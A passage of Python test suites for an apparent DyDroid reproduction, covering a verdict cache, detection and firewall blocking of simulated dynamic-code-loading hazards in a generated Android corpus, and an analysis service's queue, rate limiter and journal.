            handle.write('{"kind": "detection", "digest": "d2"')  # torn, no \n
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d1") == (True, None)
            assert store.get_detection("d2") == (False, None)
            # the junk line plus the torn tail, which open() seals with a
            # newline so later appends cannot concatenate onto it
            assert store.corrupt_lines == 2
            # the cache heals itself: recomputing d2 appends a fresh line
            store.put_detection("d2", DETECTION)
        with VerdictStore(path, pipeline_config()) as store:
            assert store.get_detection("d2") == (True, DETECTION)


# -- integration: pipeline tiers --------------------------------------------------


class TestPipelineStoreTiers:
    def test_cold_then_warm_run(self, corpus, serial_report, tmp_path):
        store_path = str(tmp_path / "verdicts.jsonl")

        cold_registry = MetricsRegistry()
        cold = DyDroid(
            pipeline_config(), metrics=cold_registry, verdict_store=store_path
        )
        cold_report = cold.measure(corpus)
        cold.close()
        assert cold_report.render_all() == serial_report.render_all()
        # cold store: every tier-1 miss is also a tier-2 miss, and the
        # fleet-wide miss count equals the distinct digest count.
        assert cold_registry.counter_value("store.detection.hit") == 0
        assert cold_registry.counter_value(
            "store.detection.miss"
        ) == cold_registry.distinct_count("cache.detection.digests")
        assert cold_registry.counter_value(
            "store.privacy.miss"
        ) == cold_registry.distinct_count("cache.privacy.digests")
        assert cold_registry.histogram("stage.store").count > 0

        warm_registry = MetricsRegistry()
        warm = DyDroid(
            pipeline_config(), metrics=warm_registry, verdict_store=store_path
        )
        warm_report = warm.measure(corpus)
        warm.close()
        assert warm_report.render_all() == serial_report.render_all()
        assert warm_registry.counter_value("store.detection.miss") == 0
        assert warm_registry.counter_value("store.privacy.miss") == 0
        assert warm_registry.counter_value(
            "store.detection.hit"
        ) == warm_registry.distinct_count("cache.detection.digests")

    def test_warm_run_never_invokes_analyzers(self, corpus, tmp_path, monkeypatch):
        store_path = str(tmp_path / "verdicts.jsonl")
        cold = DyDroid(pipeline_config(), verdict_store=store_path)
        cold_report = cold.measure(corpus)
        cold.close()
        assert any(app.payloads for app in cold_report.apps)

        def no_detect(self, binary, tracer=None):
            raise AssertionError("DroidNative ran against a warm store")

        def no_flow(dex, tracer=None):
            raise AssertionError("FlowDroid ran against a warm store")

        monkeypatch.setattr(
            "repro.static_analysis.malware.droidnative.DroidNative.detect", no_detect
        )
        monkeypatch.setattr("repro.core.pipeline.analyze_dex", no_flow)
        warm = DyDroid(pipeline_config(), verdict_store=store_path)
        warm_report = warm.measure(corpus)
        warm.close()
        assert warm_report.render_all() == cold_report.render_all()

    def test_instance_sharing_does_not_close_borrowed_store(self, tmp_path):
        with VerdictStore(tmp_path / "s.jsonl", pipeline_config()) as shared:
            pipeline = DyDroid(pipeline_config(), verdict_store=shared)
            pipeline.close()  # borrowed, must stay open for other users
            shared.put_detection("d1", None)
            assert shared.get_detection("d1") == (True, None)


# -- integration: farm fleet-wide dedup (the acceptance criterion) ---------------


class TestFarmFleetWideDedup:
    def test_four_shards_analyze_each_digest_exactly_once(
        self, serial_report, tmp_path
    ):
        store_path = str(tmp_path / "verdicts.jsonl")
        cold = run_farm(
            farm_config(n_shards=4, verdict_store=store_path)
        )
        assert cold.report.render_all() == serial_report.render_all()
        store = cold.metrics["verdict_store"]
        cache = cold.metrics["verdict_cache"]
        # store misses == distinct digest count: each distinct payload
        # was computed exactly once across all four shards.
        assert store["detection"]["misses"] == cache["detection"]["misses"]
        assert store["privacy"]["misses"] == cache["privacy"]["misses"]
        assert store["detection"]["misses"] > 0

        warm = run_farm(
            farm_config(n_shards=4, verdict_store=store_path)
        )
        assert warm.report.render_all() == serial_report.render_all()
        warm_store = warm.metrics["verdict_store"]
        assert warm_store["detection"]["misses"] == 0
        assert warm_store["privacy"]["misses"] == 0
        assert warm_store["detection"]["hits"] == cache["detection"]["misses"]

    def test_resharding_with_shared_store_stays_deterministic(
        self, serial_report, tmp_path
    ):
        store_path = str(tmp_path / "verdicts.jsonl")
        for n_shards in (1, 3, 4):
            result = run_farm(
                farm_config(n_shards=n_shards, verdict_store=store_path)
            )
            assert result.report.render_all() == serial_report.render_all()

    def test_store_config_mismatch_fails_the_run(self, tmp_path):
        store_path = str(tmp_path / "verdicts.jsonl")
        VerdictStore(store_path, pipeline_config(droidnative_threshold=0.5)).close()
        # the coordinator validates before launching any shard
        with pytest.raises(StoreError):
            run_farm(farm_config(n_shards=2, verdict_store=store_path))


# -- CLI ------------------------------------------------------------------------


class TestStoreCli:
    def test_measure_warm_store_reports_zero_misses(self, tmp_path, capsys):
        store = tmp_path / "verdicts.jsonl"
        metrics = tmp_path / "metrics.json"
        argv = [
            "measure", "--apps", str(N_APPS), "--seed", str(SEED),
            "--train", "2", "--no-replays", "--table", "2",
            "--verdict-store", str(store), "--metrics-out", str(metrics),
        ]
        assert main(argv) == 0
        cold = json.loads(metrics.read_text())
        assert cold["counters"]["store.detection.miss"] > 0
        capsys.readouterr()

        assert main(argv) == 0
        warm = json.loads(metrics.read_text())
        assert "store.detection.miss" not in warm["counters"]
        assert warm["counters"]["store.detection.hit"] > 0
        capsys.readouterr()

    def test_farm_cli_accepts_verdict_store(self, tmp_path, capsys):
        store = tmp_path / "verdicts.jsonl"
        metrics = tmp_path / "metrics.json"
        argv = [
            "farm", "run", "--apps", "12", "--seed", str(SEED),
            "--workers", "1", "--shards", "3", "--train", "2",
            "--no-replays", "--table", "2",
            "--verdict-store", str(store), "--metrics-out", str(metrics),
        ]
        assert main(argv) == 0
        capsys.readouterr()
        assert main(argv) == 0
        capsys.readouterr()
        summary = json.loads(metrics.read_text())["verdict_store"]
        assert summary["detection"]["misses"] == 0
