"""The modern-DCL ecosystem scenario pack: generation, detection, defense.

Four planted ecosystems (plugin hosts, split-APK payloads, staged
downloaders, self-debloating apps), each of which must generate
deterministically, trigger its hazard class with a full provenance chain,
mutate across lineages, and fall under firewall reach.
"""

from __future__ import annotations

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import CorpusGenerator
from repro.ecosystems import (
    ALL_HAZARD_CLASSES,
    ECOSYSTEMS,
    HAZARD_DROPPER_CHAIN,
    HAZARD_NAMESPACE_COLLISION,
    HAZARD_PLUGIN_HIJACK,
    HAZARD_SHELF_RELOAD,
    container_package,
    ecosystems_profile,
    payload_class_names,
)
from repro.observe.metrics import MetricsRegistry
from repro.runtime.classloader import _split_load_order

SEED = 42
N_APPS = 40

ROLE_FLAGS = {
    "plugin-host": "is_plugin_host",
    "split-apk": "is_split_apk",
    "staged-downloader": "is_staged_downloader",
    "self-debloating": "is_self_debloating",
}


def _config(**overrides) -> DyDroidConfig:
    base = dict(train_samples_per_family=2, run_replays=False)
    base.update(overrides)
    return DyDroidConfig(**base)


@pytest.fixture(scope="module")
def generator():
    return CorpusGenerator(profile=ecosystems_profile(), seed=SEED)


@pytest.fixture(scope="module")
def blueprints(generator):
    return generator.sample_blueprints(N_APPS)


@pytest.fixture(scope="module")
def planted(blueprints):
    """key -> first planted blueprint of each ecosystem."""
    table = {}
    for key, flag in ROLE_FLAGS.items():
        matches = [bp for bp in blueprints if getattr(bp, flag)]
        assert matches, "profile planted no {} app in {} apps".format(key, N_APPS)
        table[key] = matches[0]
    return table


@pytest.fixture(scope="module")
def analyses(generator, planted):
    """key -> AppAnalysis of each ecosystem's planted app (no firewall)."""
    pipeline = DyDroid(_config())
    return {
        key: pipeline.analyze_app(generator.build_record(bp))
        for key, bp in planted.items()
    }


class TestRegistry:
    def test_every_ecosystem_is_registered(self):
        assert set(ECOSYSTEMS) == set(ROLE_FLAGS)
        for spec in ECOSYSTEMS.values():
            assert spec.paper_count > 0
            assert spec.hazard_classes
            assert all(h in ALL_HAZARD_CLASSES for h in spec.hazard_classes)

    def test_profile_enables_all_four_roles(self):
        profile = ecosystems_profile(staged_depth=4)
        assert profile.n_plugin_host_apps > 0
        assert profile.n_split_apk_apps > 0
        assert profile.n_staged_downloader_apps > 0
        assert profile.n_self_debloating_apps > 0
        assert profile.staged_downloader_depth == 4


class TestGenerationDeterminism:
    def test_each_ecosystem_builds_byte_identical_twice(self, generator, planted):
        for key, blueprint in planted.items():
            first = generator.build_record(blueprint).apk.to_bytes()
            second = generator.build_record(blueprint).apk.to_bytes()
            assert first == second, key

    def test_knobs_off_leaves_paper_corpus_untouched(self):
        """Unplanted apps are byte-identical with the pack on or off."""
        plain = CorpusGenerator(seed=SEED)
        packed = CorpusGenerator(profile=ecosystems_profile(), seed=SEED)
        plain_bps = {bp.index: bp for bp in plain.sample_blueprints(N_APPS)}
        for bp in packed.sample_blueprints(N_APPS):
            if any(getattr(bp, flag) for flag in ROLE_FLAGS.values()):
                continue
            baseline = plain_bps[bp.index]
            assert bp.package == baseline.package
            assert (
                packed.build_record(bp).apk.to_bytes()
                == plain.build_record(baseline).apk.to_bytes()
            )


class TestHazardDetection:
    def test_plugin_host_hijacks_a_component(self, analyses):
        hazards = {h for p in analyses["plugin-host"].payloads for h in p.hazards}
        assert HAZARD_PLUGIN_HIJACK in hazards
        assert HAZARD_NAMESPACE_COLLISION in hazards

    def test_plugin_pack_is_a_foreign_sub_app(self, generator, planted, analyses):
        record = generator.build_record(planted["plugin-host"])
        assert any(
            HAZARD_PLUGIN_HIJACK in p.hazards
            for p in analyses["plugin-host"].payloads
        )
        # the pack defines the host's launcher activity under its own
        # (different) package identity -- re-derive from the asset bytes.
        asset = dict(record.apk.asset_entries())["assets/plugin_pack.apk"]
        assert container_package(asset) is not None
        assert container_package(asset) != record.package
        assert payload_class_names(asset) & record.apk.manifest.component_names()

    def test_split_apk_collides_namespace_not_components(self, analyses):
        split_payloads = [
            p
            for p in analyses["split-apk"].payloads
            if p.path.rsplit("/", 1)[-1].startswith("split_")
        ]
        assert split_payloads
        for payload in split_payloads:
            assert HAZARD_NAMESPACE_COLLISION in payload.hazards
            assert HAZARD_PLUGIN_HIJACK not in payload.hazards

    def test_self_debloating_reloads_from_shelf(self, analyses):
        shelf = [
            p
            for p in analyses["self-debloating"].payloads
            if HAZARD_SHELF_RELOAD in p.hazards
        ]
        assert len(shelf) >= 2
        for payload in shelf:
            assert "/shelf/" in payload.path
            assert payload.provenance.value == "local"

    def test_table11_reports_every_hazard_class(self, generator, blueprints):
        pipeline = DyDroid(_config())
        corpus = [
            generator.build_record(bp)
            for bp in blueprints
            if any(getattr(bp, flag) for flag in ROLE_FLAGS.values())
        ]
        report = pipeline.measure(corpus)
        table = report.ecosystems_table()
        assert set(table["classes"]) == set(ALL_HAZARD_CLASSES)
        for row in table["classes"].values():
            assert row["n_apps"] >= 1
            assert row["n_payloads"] >= 1
        rendered = report.render_ecosystems_table()
        for hazard in ALL_HAZARD_CLASSES:
            assert hazard in rendered
        assert "TABLE 11" in report.render_all()

    def test_hazards_survive_serialization(self, analyses):
        from repro.core.report import AppAnalysis

        for analysis in analyses.values():
            restored = AppAnalysis.from_dict(analysis.to_dict())
            assert [p.hazards for p in restored.payloads] == [
                p.hazards for p in analysis.payloads
            ]


class TestStagedProvenance:
    """Satellite (c): depth-3 remote ancestry and torn-chain consistency."""

    def _staged_payloads(self, analysis):
        stages = [
            p for p in analysis.payloads if "/files/stage" in p.path
        ]
        return sorted(stages, key=lambda p: p.path)

    def test_depth3_chain_carries_full_remote_ancestry(self, analyses):
        stages = self._staged_payloads(analyses["staged-downloader"])
        assert len(stages) == 3
        seen_origins = []
        for hop, payload in enumerate(stages, start=1):
            assert payload.provenance.value == "remote"
            origins = set(payload.remote_sources)
            assert len(origins) == hop
            # every upstream hop's origin is in this hop's ancestry
            for earlier in seen_origins:
                assert earlier <= origins
            seen_origins.append(origins)
        assert HAZARD_DROPPER_CHAIN in stages[-1].hazards

    def test_torn_mid_chain_leaves_consistent_provenance(self, generator, planted):
        record = generator.build_record(planted["staged-downloader"])
        torn = {
            url: data
            for url, data in record.remote_resources.items()
            if "stage2" not in url
        }
        assert len(torn) == len(record.remote_resources) - 1
        record.remote_resources = torn
        analysis = DyDroid(_config()).analyze_app(record)
        stages = self._staged_payloads(analysis)
        # stage 1 landed; the dead hop (and everything past it) did not.
        assert [p.path.rsplit("/", 1)[-1] for p in stages] == ["stage1.jar"]
        assert stages[0].provenance.value == "remote"
        assert len(stages[0].remote_sources) == 1
        assert HAZARD_DROPPER_CHAIN not in stages[0].hazards
        # the app survived the torn download (IOException caught in-app)
        assert analysis.outcome is not None


class TestSplitLoadOrder:
    def test_base_first_then_splits_sorted(self):
        paths = [
            "/app/split_zeta.apk",
            "/app/base.apk",
            "/app/config.xhdpi.apk",
            "/app/split_alpha.apk",
        ]
        assert _split_load_order(paths) == [
            "/app/base.apk",
            "/app/config.xhdpi.apk",
            "/app/split_alpha.apk",
            "/app/split_zeta.apk",
        ]

    def test_split_free_paths_come_back_unchanged(self):
        paths = ["/app/b.jar", "/app/a.jar"]
        assert _split_load_order(paths) == paths
        assert _split_load_order(["/app/split_a.apk"]) == ["/app/split_a.apk"]

    def test_runtime_reorders_the_apps_unordered_dex_path(self, analyses):
        dynamic = analyses["split-apk"].dynamic
        split_events = [
            e
            for e in dynamic.dcl.dex_events
            if any("splits/" in p for p in e.dex_paths)
        ]
        assert split_events
        paths = list(split_events[0].dex_paths)
        basenames = [p.rsplit("/", 1)[-1] for p in paths]
        # the app passes feature:config; the loader defines config.* first
        assert basenames == sorted(basenames)
        assert basenames[0].startswith("config.")


class TestFirewallReach:
    def test_default_policy_denies_plugin_hijack(self, generator, planted):
        record = generator.build_record(planted["plugin-host"])
        analysis = DyDroid(_config(firewall_policy="default")).analyze_app(record)
        blocked = {
            (d.verdict, d.rule)
            for d in analysis.dynamic.firewall_decisions
            if d.verdict != "allow"
        }
        assert ("deny", "plugin-component-hijack") in blocked

    def test_enforcement_stops_chain_at_the_root(self, generator, planted):
        record = generator.build_record(planted["staged-downloader"])
        analysis = DyDroid(_config(firewall_policy="default")).analyze_app(record)
        blocked = [
            d for d in analysis.dynamic.firewall_decisions if d.verdict != "allow"
        ]
        assert blocked and blocked[0].path.endswith("stage1.jar")
        # stage 1 was denied before it could run, so no later hop loaded
        assert not any(
            "stage2" in d.path or "stage3" in d.path
            for d in analysis.dynamic.firewall_decisions
        )

    def test_observe_mode_quarantines_the_dropper_chain(self, generator, planted):
        record = generator.build_record(planted["staged-downloader"])
        analysis = DyDroid(_config(firewall_policy="observe")).analyze_app(record)
        by_rule = {}
        for d in analysis.dynamic.firewall_decisions:
            if d.verdict != "allow":
                by_rule.setdefault(d.rule, []).append(d)
        chain = by_rule.get("dropper-chain", [])
        assert len(chain) == 2  # stages 2 and 3; stage 1 is plain remote-code
        assert all(d.verdict == "quarantine" for d in chain)

    def test_splits_and_shelves_load_clean_under_default_policy(
        self, generator, planted
    ):
        for key in ("split-apk", "self-debloating"):
            record = generator.build_record(planted[key])
            analysis = DyDroid(_config(firewall_policy="default")).analyze_app(
                record
            )
            assert all(
                d.verdict == "allow"
                for d in analysis.dynamic.firewall_decisions
            ), key

    def test_defend_eval_scores_the_new_hazard_classes(self, tmp_path):
        from repro.defense.evaluation import evaluate_defense

        evaluation = evaluate_defense(
            N_APPS,
            seed=SEED,
            policy="default",
            verdict_store=str(tmp_path / "verdicts.jsonl"),
            config=_config(),
            profile=ecosystems_profile(),
        )
        by_kind = evaluation.hazards_by_kind()
        assert by_kind["plugin-hijack"]["blocked"] >= 1
        assert by_kind["dropper-chain"]["blocked"] >= 1


class TestLineageChurn:
    def test_each_ecosystem_mutates_across_versions(self):
        from repro.evolution.lineage import plan_lineages

        lineages = plan_lineages(
            N_APPS, n_versions=8, seed=SEED, profile=ecosystems_profile()
        )
        by_index = {l.index: l for l in lineages}
        generator = CorpusGenerator(profile=ecosystems_profile(), seed=SEED)
        for key, flag in ROLE_FLAGS.items():
            expected = ECOSYSTEMS[key].lineage_mutation
            planted = [
                bp
                for bp in generator.sample_blueprints(N_APPS)
                if getattr(bp, flag)
            ]
            fleet_mutations = {
                m
                for bp in planted
                for v in by_index[bp.index].versions
                for m in v.mutations
            }
            assert expected in fleet_mutations, key

    def test_generation_bump_churns_payload_bytes(self, generator, planted):
        import copy

        for key, blueprint in planted.items():
            bumped = copy.deepcopy(blueprint)
            for field in (
                "plugin_generation",
                "split_generation",
                "stage_generation",
                "shelf_generation",
            ):
                setattr(bumped, field, getattr(bumped, field) + 1)
            assert (
                generator.build_record(blueprint).apk.to_bytes()
                != generator.build_record(bumped).apk.to_bytes()
            ), key

    def test_paper_profile_lineages_are_undisturbed(self):
        from repro.evolution.lineage import plan_lineages

        plain = plan_lineages(N_APPS, n_versions=5, seed=SEED)
        packed = plan_lineages(
            N_APPS, n_versions=5, seed=SEED, profile=ecosystems_profile()
        )
        planted_indices = {
            bp.index
            for bp in CorpusGenerator(
                profile=ecosystems_profile(), seed=SEED
            ).sample_blueprints(N_APPS)
            if any(getattr(bp, flag) for flag in ROLE_FLAGS.values())
        }
        for before, after in zip(plain, packed):
            if before.index in planted_indices:
                continue
            assert [v.mutations for v in before.versions] == [
                v.mutations for v in after.versions
            ]


class TestWarmStoreRerun:
    def test_warm_rerun_of_mixed_corpus_invokes_zero_analyzers(self, tmp_path):
        generator = CorpusGenerator(profile=ecosystems_profile(), seed=SEED)
        corpus = generator.generate(N_APPS)
        store = str(tmp_path / "verdicts.jsonl")

        cold = MetricsRegistry()
        pipeline = DyDroid(_config(), metrics=cold, verdict_store=store)
        first = pipeline.measure(corpus)
        pipeline.close()
        assert cold.counter_value("analyzer.droidnative.invocations") > 0

        warm = MetricsRegistry()
        pipeline = DyDroid(_config(), metrics=warm, verdict_store=store)
        second = pipeline.measure(corpus)
        pipeline.close()
        assert warm.counter_value("analyzer.droidnative.invocations") == 0
        assert warm.counter_value("analyzer.flowdroid.invocations") == 0
        assert second.ecosystems_table() == first.ecosystems_table()
