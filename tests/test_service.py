"""The analysis service: queue, admission, dedup, cache, persistence, drain."""

import base64
import json
import os
import signal
import subprocess
import sys
import threading
import time
from contextlib import contextmanager

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import CorpusGenerator
from repro.service import (
    AnalysisService,
    JobQueue,
    JobSpec,
    QueueClosedError,
    QueueFullError,
    RateLimitedError,
    RateLimiter,
    ResultJournal,
    ServiceClient,
    ServiceClientError,
    ServiceConfig,
    ServicePersistError,
    SpecError,
    TokenBucket,
    make_server,
)

SEED = 19
N_APPS = 12
SPEC = {"kind": "corpus", "seed": SEED, "n_apps": N_APPS, "index": 3}


def pipeline_config():
    return DyDroidConfig(train_samples_per_family=2, run_replays=False)


@contextmanager
def running_service(**overrides):
    defaults = dict(workers=1, pipeline=pipeline_config())
    defaults.update(overrides)
    service = AnalysisService(ServiceConfig(**defaults))
    service.start()
    server = make_server(service)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    client = ServiceClient("127.0.0.1", server.server_port)
    try:
        yield service, client
    finally:
        server.shutdown()
        service.drain(timeout=60.0)
        server.server_close()


# -- unit: specs ----------------------------------------------------------------


class TestJobSpec:
    def test_corpus_spec_roundtrip_and_key_stability(self):
        spec = JobSpec.from_payload(SPEC)
        assert spec.kind == "corpus" and spec.index == 3
        assert spec.key() == JobSpec.from_payload(dict(SPEC)).key()
        other = JobSpec.from_payload({**SPEC, "index": 4})
        assert other.key() != spec.key()

    def test_corpus_spec_validation(self):
        with pytest.raises(SpecError):
            JobSpec.from_payload({"kind": "corpus", "seed": 1, "n_apps": 10})
        with pytest.raises(SpecError):
            JobSpec.from_payload({**SPEC, "index": N_APPS})
        with pytest.raises(SpecError):
            JobSpec.from_payload({**SPEC, "n_apps": 0})
        with pytest.raises(SpecError):
            JobSpec.from_payload({"kind": "mystery"})
        with pytest.raises(SpecError):
            JobSpec.from_payload([1, 2])

    def test_apk_spec_builds_the_submitted_bytes(self):
        record = CorpusGenerator(seed=SEED).records_at(N_APPS, [3])[0]
        encoded = base64.b64encode(record.apk.to_bytes()).decode("ascii")
        spec = JobSpec.from_payload({"kind": "apk", "apk_b64": encoded})
        rebuilt = spec.build_record()
        assert rebuilt.apk.sha256() == record.apk.sha256()
        assert rebuilt.package == record.package

    def test_apk_spec_rejects_garbage(self):
        with pytest.raises(SpecError):
            JobSpec.from_payload({"kind": "apk", "apk_b64": "!!!not-base64!!!"})
        with pytest.raises(SpecError):
            JobSpec.from_payload(
                {"kind": "apk", "apk_b64": base64.b64encode(b"junk").decode()}
            )

    def test_corpus_spec_matches_farm_materialization(self):
        spec = JobSpec.from_payload(SPEC)
        direct = CorpusGenerator(seed=SEED).records_at(N_APPS, [3])[0]
        assert spec.build_record().apk.sha256() == direct.apk.sha256()

    def test_policy_less_key_matches_pre_policy_format(self):
        # Submission keys from before the policy field must not change:
        # journals and dedup tables written by older daemons stay valid.
        import hashlib

        legacy = json.dumps(
            {"kind": "corpus", "seed": SEED, "n_apps": N_APPS, "index": 3},
            sort_keys=True,
        ).encode("utf-8")
        spec = JobSpec.from_payload(SPEC)
        assert spec.key() == hashlib.sha256(legacy).hexdigest()[:16]
        assert "policy" not in spec.to_dict()

    def test_policy_distinguishes_submissions(self):
        plain = JobSpec.from_payload(SPEC)
        defended = JobSpec.from_payload({**SPEC, "policy": "default"})
        strict = JobSpec.from_payload({**SPEC, "policy": "strict"})
        assert len({plain.key(), defended.key(), strict.key()}) == 3
        assert defended.to_dict()["policy"] == "default"

    def test_unknown_or_malformed_policy_rejected(self):
        with pytest.raises(SpecError):
            JobSpec.from_payload({**SPEC, "policy": "nope"})
        with pytest.raises(SpecError):
            JobSpec.from_payload({**SPEC, "policy": 7})


# -- unit: queue ----------------------------------------------------------------


class TestJobQueue:
    def test_priority_then_fifo_order(self):
        queue = JobQueue(max_depth=8)
        queue.put("low-a", priority=0)
        queue.put("high", priority=5)
        queue.put("low-b", priority=0)
        assert [queue.get(), queue.get(), queue.get()] == ["high", "low-a", "low-b"]

    def test_admission_control_rejects_when_full(self):
        queue = JobQueue(max_depth=2)
        queue.put("a")
        queue.put("b")
        with pytest.raises(QueueFullError) as excinfo:
            queue.put("c", retry_after_s=7.0)
        assert excinfo.value.retry_after_s == 7.0
        assert queue.depth() == 2

    def test_close_drains_then_signals_consumers(self):
        queue = JobQueue(max_depth=4)
        queue.put("a")
        queue.close()
        # Closed is distinct from full: there is no point retrying a
        # dying daemon, so it must not be the 429-mapped QueueFullError.
        with pytest.raises(QueueClosedError):
            queue.put("b")
        assert queue.get() == "a"
        assert queue.get() is None  # closed and empty

    def test_get_timeout_returns_none(self):
        assert JobQueue(max_depth=1).get(timeout=0.01) is None


# -- unit: rate limiting ---------------------------------------------------------


class TestRateLimiting:
    def test_token_bucket_refills_on_fake_clock(self):
        now = [0.0]
        bucket = TokenBucket(rate_per_s=2.0, burst=2, clock=lambda: now[0])
        assert bucket.try_acquire() is None
        assert bucket.try_acquire() is None
        wait_s = bucket.try_acquire()
        assert wait_s == pytest.approx(0.5)
        now[0] += 0.5  # one token refilled
        assert bucket.try_acquire() is None

    def test_limiter_is_per_client(self):
        now = [0.0]
        limiter = RateLimiter(rate_per_s=1.0, burst=1, clock=lambda: now[0])
        limiter.allow("alice")
        with pytest.raises(RateLimitedError) as excinfo:
            limiter.allow("alice")
        assert excinfo.value.retry_after_s > 0
        limiter.allow("bob")  # a different client has its own bucket
        assert limiter.tracked_clients() == 2

    def test_disabled_limiter_admits_everything(self):
        limiter = RateLimiter(rate_per_s=0.0, burst=1)
        for _ in range(100):
            limiter.allow("anyone")
        assert limiter.tracked_clients() == 0

    def test_eviction_does_not_reset_a_depleted_burst(self):
        """Regression: tracking-map eviction used to be a free burst reset.

        Plain LRU evicted the oldest bucket regardless of its tokens, so a
        depleted client that went briefly quiet came back brand-new.  The
        limiter now prefers evicting buckets that have refilled to full
        (forgetting those is lossless).
        """
        now = [0.0]
        limiter = RateLimiter(
            rate_per_s=1.0, burst=2, clock=lambda: now[0], max_tracked=2
        )
        limiter.allow("alice")
        limiter.allow("alice")  # alice's burst is now depleted
        limiter.allow("bob")    # bob has one of two tokens left
        now[0] = 1.0            # bob refills to full; alice has only 1
        limiter.allow("carol")  # over capacity: must evict somebody
        # bob -- the oldest *full* bucket -- was the victim, not alice
        limiter.allow("alice")  # spends her single refilled token
        with pytest.raises(RateLimitedError):
            limiter.allow("alice")  # eviction pressure granted no fresh burst
        assert limiter.tracked_clients() == 2

    def test_eviction_falls_back_to_oldest_when_none_full(self):
        now = [0.0]
        limiter = RateLimiter(
            rate_per_s=1.0, burst=1, clock=lambda: now[0], max_tracked=2
        )
        limiter.allow("alice")
        limiter.allow("bob")
        limiter.allow("carol")  # every bucket depleted: oldest (alice) goes
        assert limiter.tracked_clients() == 2
        with pytest.raises(RateLimitedError):
            limiter.allow("bob")  # bob survived with his spent state intact

    def test_max_tracked_validated(self):
        with pytest.raises(ValueError):
            RateLimiter(rate_per_s=1.0, burst=1, max_tracked=0)


# -- unit: persistence -----------------------------------------------------------


class TestResultJournal:
    def test_write_then_reload(self, tmp_path):
        path = tmp_path / "service.jsonl"
        journal = ResultJournal(path, pipeline_config())
        journal.append_result("key1", "digest1", "com.a.b", 0.5, {"package": "com.a.b"})
        journal.close()
        reloaded = ResultJournal(path, pipeline_config())
        assert [e["digest"] for e in reloaded.restored] == ["digest1"]
        reloaded.close()

    def test_torn_final_line_is_dropped(self, tmp_path):
        path = tmp_path / "service.jsonl"
        journal = ResultJournal(path, pipeline_config())
        journal.append_result("key1", "digest1", "com.a.b", 0.5, {})
        journal.close()
        with path.open("a") as handle:
            handle.write('{"kind": "result", "digest": "torn')
        reloaded = ResultJournal(path, pipeline_config())
        assert len(reloaded.restored) == 1
        reloaded.close()

    def test_pipeline_config_fingerprint_mismatch(self, tmp_path):
        path = tmp_path / "service.jsonl"
        ResultJournal(path, pipeline_config()).close()
        other = DyDroidConfig(train_samples_per_family=5, run_replays=False)
        with pytest.raises(ServicePersistError, match="different pipeline"):
            ResultJournal(path, other)

    def test_double_restart_after_torn_tail(self, tmp_path):
        """Restart after a torn write, append, restart again: no corruption.

        The journal used to reopen in append mode with the torn fragment
        still in place, so the first post-restart append concatenated onto
        it and the *second* restart rejected the file.  The torn tail is
        now truncated before reopening.
        """
        path = tmp_path / "service.jsonl"
        journal = ResultJournal(path, pipeline_config())
        journal.append_result("k1", "d1", "p1", 0.5, {})
        journal.append_result("k2", "d2", "p2", 0.5, {})
        journal.close()
        content = path.read_bytes()
        path.write_bytes(content[:-7])  # kill mid-write of the d2 record

        second = ResultJournal(path, pipeline_config())
        assert [e["digest"] for e in second.restored] == ["d1"]
        second.append_result("k3", "d3", "p3", 0.5, {})
        second.close()

        third = ResultJournal(path, pipeline_config())
        assert [e["digest"] for e in third.restored] == ["d1", "d3"]
        third.close()
        for line in path.read_text().splitlines():
            json.loads(line)  # every surviving line is complete JSON

    def test_incomplete_entry_names_file_and_line(self, tmp_path):
        path = tmp_path / "service.jsonl"
        journal = ResultJournal(path, pipeline_config())
        journal.append_result("k", "d", "p", 0.1, {})
        journal.close()
        with path.open("a") as handle:
            handle.write('{"kind": "result", "digest": "d2"}\n')  # no spec_key
        with pytest.raises(ServicePersistError) as excinfo:
            ResultJournal(path, pipeline_config())
        message = str(excinfo.value)
        assert "service.jsonl:3" in message
        assert "spec_key" in message

    def test_corrupt_interior_line_is_an_error(self, tmp_path):
        path = tmp_path / "service.jsonl"
        journal = ResultJournal(path, pipeline_config())
        journal.append_result("k", "d", "p", 0.1, {})
        journal.close()
        lines = path.read_text().splitlines()
        lines.insert(1, "not json")
        path.write_text("\n".join(lines) + "\n")
        with pytest.raises(ServicePersistError, match="corrupt"):
            ResultJournal(path, pipeline_config())


# -- end-to-end over HTTP --------------------------------------------------------


class TestServiceEndToEnd:
    def test_submit_poll_result_matches_direct_pipeline(self):
        record = CorpusGenerator(seed=SEED).records_at(N_APPS, [3])[0]
        direct = DyDroid(pipeline_config()).analyze_app(record).to_dict()
        with running_service() as (service, client):
            response = client.submit(SPEC)
            assert response["state"] == "queued" and not response["cached"]
            job = client.wait(response["job_id"])
            assert job["digest"] == record.apk.sha256()
            served = client.result(job["digest"])["analysis"]
            assert served == direct
            # duplicate submission: answered instantly from the cache.
            repeat = client.submit(SPEC)
            assert repeat["state"] == "done"
            assert repeat["cached"] and repeat["digest"] == job["digest"]
            stats = client.stats()
            assert stats["counters"]["service.pipeline.runs"] == 1
            assert stats["counters"]["service.cache.hit"] == 1
            assert stats["counters"]["service.cache.miss"] == 1

    def test_apk_upload_converges_with_corpus_reference(self):
        """A raw APK upload content-dedupes against the corpus reference."""
        record = CorpusGenerator(seed=SEED).records_at(N_APPS, [3])[0]
        encoded = base64.b64encode(record.apk.to_bytes()).decode("ascii")
        with running_service() as (service, client):
            first = client.submit(SPEC)
            client.wait(first["job_id"])
            upload = client.submit({"kind": "apk", "apk_b64": encoded})
            job = client.wait(upload["job_id"])
            assert job["digest"] == record.apk.sha256()
            assert job["cached"]  # content-level hit: analysis was skipped
            assert client.stats()["counters"]["service.pipeline.runs"] == 1

    def test_health_metrics_and_unknown_routes(self):
        with running_service() as (service, client):
            assert client.healthz()["status"] == "ok"
            metrics = client.metrics()
            assert "counters" in metrics and "histograms" in metrics
            with pytest.raises(ServiceClientError) as excinfo:
                client.job("job-999999")
            assert excinfo.value.status == 404
            with pytest.raises(ServiceClientError) as excinfo:
                client.result("not-a-digest")
            assert excinfo.value.status == 404
            with pytest.raises(ServiceClientError) as excinfo:
                client.request("GET", "/v2/nope")
            assert excinfo.value.status == 404

    def test_bad_submissions_get_400(self):
        with running_service(workers=0) as (service, client):
            bad = client.submit({"kind": "corpus", "seed": 1}, expect_error=True)
            assert bad["_status"] == 400
            bad = client.submit({**SPEC, "priority": "urgent"}, expect_error=True)
            assert bad["_status"] == 400
            assert client.stats()["counters"]["service.cache.miss"] == 0


